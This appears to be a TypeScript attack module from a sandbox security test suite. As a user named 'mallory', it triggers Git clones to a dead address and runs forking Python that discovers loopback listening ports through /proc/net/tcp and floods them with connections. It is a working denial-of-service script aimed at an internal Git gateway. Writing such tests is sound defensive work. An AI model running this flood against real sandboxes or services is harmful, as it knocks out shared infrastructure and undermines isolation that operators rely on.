/** Connections from inside to the port that leads to a Git remote, as many as there can be, while a clone waits. */
import { call } from '../../support/service.ts';
import type { Attack } from '../attack.ts';

const SECONDS = 12;
/** Leads nowhere, so that the door stays open until the gateway gives up. */
const url = 'http://203.0.113.7/x.git';
const code = `
import os, socket, time
end = time.time() + ${SECONDS}
def listening():
    for line in open('/proc/net/tcp').readlines()[1:]:
        fields = line.split()
        if fields[3] == '0A' and fields[1].startswith('0100007F'): yield int(fields[1].split(':')[1], 16)
for _ in range(2):
    if os.fork() == 0: break
while time.time() < end:
    for port in set(listening()):
        for _ in range(500):
            try:
                made = socket.create_connection(('127.0.0.1', port), 0.2)
                made.send(b'x')
                made.close()
            except OSError: break
    time.sleep(0.01)
`;

export const attack: Attack = {
  name: 'the Git door flooded from inside',
  async run({ mallory, sandbox }, signal) {
    for (let at = 0; !signal.aborted; at++) {
      const clones = [0, 1, 2].map((number) =>
        call(mallory, 'GitClone', {
          ...{ sandbox, url, username: 'x', password: 'x' },
          path: `/workspace/flood-${at}-${number}`,
        }),
      );
      const flood = call(mallory, 'RunCode', { sandbox, code, timeout_seconds: SECONDS + 2 });
      await Promise.race([Promise.all([...clones, flood]), aborted(signal)]);
    }
  },
};

function aborted(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });
}
